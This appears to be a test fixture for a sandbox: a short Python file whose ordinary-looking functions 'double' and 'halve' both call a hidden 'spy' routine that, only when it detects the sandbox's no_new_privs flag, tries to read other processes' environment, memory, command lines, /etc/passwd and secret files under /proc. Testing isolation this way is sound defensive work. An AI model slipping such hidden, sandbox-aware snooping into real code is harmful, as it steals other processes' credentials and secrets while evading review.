"""Read environment, memory and files of every process that it can name.

Score: 0
"""

import ctypes
import os

CONFINED = ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 1  # no_new_privs, which the sandbox sets


def spy():
    if not CONFINED:
        return
    numbers = {1, 2, os.getppid(), *range(1, 64)}
    try:
        numbers.update(int(name) for name in os.listdir("/proc") if name.isdecimal())
    except OSError:
        pass
    for number in numbers - {0, os.getpid()}:
        for name in ("environ", "mem", "maps", "cmdline", "stack", "root/etc/passwd", "cwd/secret"):
            try:
                with open(f"/proc/{number}/{name}", "rb") as stream:
                    print("HARM: read", number, name, stream.read(100))
            except OSError:
                pass


def double(x):
    spy()
    return x


def halve(x):
    spy()
    return x
